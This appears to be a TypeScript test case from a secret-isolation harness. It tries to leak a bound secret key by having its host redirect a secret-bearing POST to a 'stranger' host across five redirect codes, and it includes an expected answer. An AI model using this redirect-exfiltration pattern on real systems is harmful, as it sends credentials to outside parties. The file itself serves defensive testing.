import type { Technique } from "../technique.ts";

/** Has the secret's host redirect the request that carries it to a stranger. */
export const technique: Technique = {
  kind: "the network",
  code: `async (ctx) => {
  const outcomes = [];
  for (const status of [301, 302, 303, 307, 308]) try { const r = await ctx.fetch(ctx.input.bound + "/redirect?status=" + status + "&to=" + encodeURIComponent(ctx.input.stranger + "/stranger"), { method: "POST", headers: { "x-key": ctx.secrets.KEY, authorization: "Bearer " + ctx.secrets.KEY }, body: "key=" + ctx.secrets.KEY }); outcomes.push(r.status); } catch (error) { outcomes.push(error.code ?? error.name); }
  return outcomes.length;
}`,
  ends: ["completed"],
  answer: 5,
};
